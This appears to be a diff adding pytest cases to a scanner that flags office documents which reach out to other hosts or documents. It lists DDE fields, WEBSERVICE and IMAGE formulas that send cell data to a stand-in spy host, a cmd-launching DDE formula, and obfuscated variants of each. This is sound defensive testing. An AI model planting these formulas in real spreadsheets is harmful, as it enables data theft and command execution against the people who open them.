@@ -33,6 +33,7 @@ def of_excel(asks: str) -> bytes:
     "part",
     [
         b"<w:fldSimple w:instr='DDEAUTO c:\\x'/>",
+        b"<w:instrText><x:a/>DDEAUTO c:\\x</w:instrText>",
         b"<x:instrText>DDEAUTO c:\\x</x:instrText>",
         b"<w:instrText>D&#68;E c:\\x</w:instrText>",
         b"<w:instrText><![CDATA[DDE]]> c:\\x</w:instrText>",
@@ -100,3 +101,69 @@ def test_a_document_that_loads_another_by_itself_is_refused() -> None:
     template = b'<meta:template xlink:href="file:///G:/mallar/brev.ott" xlink:actuate="onRequest"/>'
 
     assert [told(made.of_libreoffice(meta__xml=part)) for part in (reload, template)] == [REACHES_OUT, ""]
+
+
+SHEET = b"<worksheet><sheetData><c><f>%s</f></c></sheetData></worksheet>"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        b'_xlfn.WEBSERVICE("https://spion.example/?" &amp; A1)',
+        b'1+_xlfn.IMAGE ("https://spion.example/a.png")',
+        b'&#87;EBSERVICE("https://spion.example")',
+        b'WEB<!-- -->SERVICE("https://spion.example")',
+        b'<x:a/>WEBSERVICE("https://spion.example")',
+        b'<![CDATA[webservice("https://spion.example")]]>',
+        b'RTD("a",,"b")',
+        b"_xlfn._xlws.PY(0,0)",
+        b"cmd|' /C calc'!A0",
+        b"'[1]Blad1'!A1+cmd|A!B",
+        b"'\\\\spion.example\\a\\[b.xlsx]Blad1'!A1",
+        b"SUM(&apos;https://spion.example/[b.xlsx]Blad &lt;1&gt;&apos;!A1:A9)",
+    ],
+)
+def test_a_formula_that_reaches_out_is_found_however_it_is_written(formula: bytes) -> None:
+    types = LINKS % "worksheet"
+
+    for part in (SHEET % formula, b"<x:workbook><x:definedName>%s</x:definedName></x:workbook>" % formula):
+        assert told(made.zipped({"[Content_Types].xml": types.encode(), "xl/a.xml": part})) == REACHES_OUT
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        b"SUM(A1:A9)",
+        b'HYPERLINK("https://www.example.se/","Karta")',
+        b"'Blad (1)'!A1 + IMAGES(A1)",
+        b"'[0]Blad 1'!A1 + SUM(Tabell1[Kostnad])",
+        b'IF(A1="ja|nej",1,0)',
+        b'TEXT(A1,"# ##0")',
+        b"'\xc3\x85tg\xc3\xa4rder #1'!A1",
+    ],
+)
+def test_a_formula_that_reckons_here_is_taken(formula: bytes) -> None:
+    types = (LINKS % "worksheet").encode()
+
+    assert told(made.zipped({"[Content_Types].xml": types, "xl/a.xml": SHEET % formula})) == ""
+
+
+@pytest.mark.parametrize(
+    ("formula", "is_taken"),
+    [
+        ("of:=WEBSERVICE(&quot;https://spion.example&quot;)", False),
+        ("of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)", False),
+        ("of:='file:///c:/hemlig.ods'#$Blad1.A1", False),
+        ("of:=SUM([.A1:.A9])", True),
+        ("of:=[$'Blad #2'.A1]", True),
+    ],
+)
+def test_a_formula_of_libreoffice_is_read_likewise(formula: str, is_taken: bool) -> None:
+    content = f'<office:c><table:table-cell table:formula="{formula}"/></office:c>'.encode()
+
+    assert told(made.of_libreoffice("spreadsheet", content__xml=content)) == ("" if is_taken else REACHES_OUT)
+
+
+@pytest.mark.parametrize("field", ["LINK Excel.Sheet.12 c:\\a.xlsx", " DATABASE \\d c:\\a", "RD c:\\a.docx"])
+def test_a_field_that_links_another_document_is_found(field: str) -> None:
+    assert told(made.package(word_in_header1__xml=FIELD.format("PAGE", field).encode())) == REACHES_OUT
